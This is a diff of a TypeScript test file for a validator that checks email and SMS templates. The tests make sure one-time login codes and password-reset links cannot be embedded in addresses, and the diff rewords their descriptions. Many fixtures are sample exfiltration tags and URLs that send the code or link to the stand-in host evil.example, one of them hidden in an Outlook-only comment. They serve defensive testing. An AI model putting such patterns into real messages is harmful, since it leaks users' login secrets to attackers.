@@ -17,19 +17,19 @@ const reasonsOf = async (channel: 'email' | 'sms', name: string, body: string) =
 const CODE = '<p>{{ code }}</p>'
 const LINK = '<a href="{{ link }}">Open</a>'
 
-describe('a code in an email stands in no address', () => {
+describe('an email is refused with its code in the address', () => {
   test.each([
     ['of a picture', '<img src="https://evil.example/?c={{ code }}">'],
     ['of a link', '<a href="https://evil.example/{{ code }}">'],
     ['of the portal itself', '<a href="{{ portal }}/{{ code }}">'],
     ['of a background', '<td background="https://evil.example/{{ code }}">'],
-    ['of an attribute that holds none', '<p title="{{ code }}">'],
-    ['of a mail', '<a href="mailto:a@evil.example?subject={{code}}">'],
+    ['in another attribute', '<p title="{{ code }}">'],
+    ['of a mailto link', '<a href="mailto:a@evil.example?subject={{code}}">'],
   ])('%s', async (_where, tag) => {
     expect(await reasonsOf('email', 'login-otp', `${CODE}${tag}`)).toContainEqual(['secret_address', tag])
   })
 
-  test('of what only old Outlooks read', async () => {
+  test('of a picture or link that only old Outlooks read', async () => {
     const comment = '<!--[if mso]><img src="https://evil.example/?c={{ code }}"><![endif]-->'
     expect(await reasonsOf('email', 'login-otp', CODE + comment)).toEqual([['secret_address', comment]])
     const filtered = '<!--[if mso]><v:image src="https://evil.example/?c={{ code | strip }}"/><![endif]-->'
@@ -39,12 +39,12 @@ describe('a code in an email stands in no address', () => {
   })
 
   test.each([
-    ['that a mail program makes of text', 'https://evil.example/?c={{ code }}'],
-    ['that it makes without a scheme', 'evil.example/{{ code }}'],
-    ['whose host it is', '{{ code }}.evil.example'],
-    ['of which a filter takes a part', 'https://evil.example/{{ code | truncate: 3, "" }}'],
-    ['as what stands in for something else', 'https://evil.example/{{ clientName | default: code }}'],
-    ['that spans tags', '<b>https://evil.example/</b><i>{{ code }}</i>'],
+    ['in a text that a mail program turns into an address', 'https://evil.example/?c={{ code }}'],
+    ['in such a text without a scheme', 'evil.example/{{ code }}'],
+    ['as the host of an address', '{{ code }}.evil.example'],
+    ['cut by a filter', 'https://evil.example/{{ code | truncate: 3, "" }}'],
+    ['as the default of another value', 'https://evil.example/{{ clientName | default: code }}'],
+    ['across tags', '<b>https://evil.example/</b><i>{{ code }}</i>'],
     ['in a branch', '{% if clientName %}https://evil.example/?{{ code }}{% endif %}'],
   ])('%s', async (_where, text) => {
     expect(await reasonsOf('email', 'login-otp', `${CODE}<p>${text}</p>`)).toEqual([
@@ -55,14 +55,14 @@ describe('a code in an email stands in no address', () => {
   test.each([
     ['a comparison', '{% if code contains "4" %}<img src="https://evil.example/4">{% endif %}'],
     ['a case', '{% case code %}{% when "482913" %}<img src="https://evil.example/482913">{% endcase %}'],
-    ['what another value is compared with', '{% if firstName == code %}x{% endif %}'],
-  ])('and no picture depends on it by %s', async (_how, condition) => {
+    ['a comparison with another value', '{% if firstName == code %}x{% endif %}'],
+  ])('or with a picture that depends on the code by %s', async (_how, condition) => {
     const [first] = await reasonsOf('email', 'login-otp', CODE + condition)
     expect(first).toEqual(['secret_condition', 'code'])
   })
 })
 
-describe('a link is the whole address of a link, or text', () => {
+describe('a link may be a whole address or text', () => {
   test.each([
     ['as a button', LINK],
     ['as text', '<p>Open {{ link }}, please.</p>'],
@@ -80,12 +80,12 @@ describe('a link is the whole address of a link, or text', () => {
     '<a href="https://evil.example/?to={{ link }}">',
     '<a href="{{ link }}?c=1">',
     '<a title="{{ link }}" href="https://portal.example.com/">',
-  ])('not %s', async (tag) => {
+  ])('but not part of %s', async (tag) => {
     expect(await reasonsOf('email', 'reset-password', LINK + tag)).toContainEqual(['secret_address', tag])
   })
 })
 
-describe('a text message keeps addresses and codes apart', () => {
+describe('an SMS must keep addresses and codes apart', () => {
   test.each([
     ['{{ code }} is your code for {{ brand }}.', []],
     ['Code:{{ code }}. @portal.example.com #{{ code }}', []],
@@ -97,14 +97,14 @@ describe('a text message keeps addresses and codes apart', () => {
     expect((await reasonsOf('sms', 'login-otp', body)).map(([reason]) => reason)).toEqual(reasons)
   })
 
-  test('and of a link nothing but itself', async () => {
+  test('and use a link unchanged', async () => {
     expect(await reasonsOf('sms', 'reset-password', 'Open {{ link }} now')).toEqual([])
     const body = 'Open {{ link }} or https://evil.example/?u={{ link }}'
     expect(await reasonsOf('sms', 'reset-password', body)).toEqual([['secret_beside', body]])
   })
 })
 
-describe('through the API', () => {
+describe('in the console', () => {
   let server: TestServer
   let admin: Visitor
   beforeAll(async () => {
@@ -141,7 +141,7 @@ describe('through the API', () => {
       '<a href="{{ link }}">Open</a><img {% if true %}src="https://evil.example/?{{ link | truncate: 80, "" }}"{% endif %}>',
     ],
     ['by the values of a person', '<a href="{{ link }}">Open</a><img src="https://evil.example/?{{ firstName }}">'],
-  ])('one that was stored before is not used, and the attempt says why: %s', async (_how, body) => {
+  ])('an old one is not used, and the attempt gives the reason: %s', async (_how, body) => {
     await server.db.execute(sql`delete from templates`)
     await server.db.execute(sql`
       insert into templates (id, channel, template_id, name, subject, body)
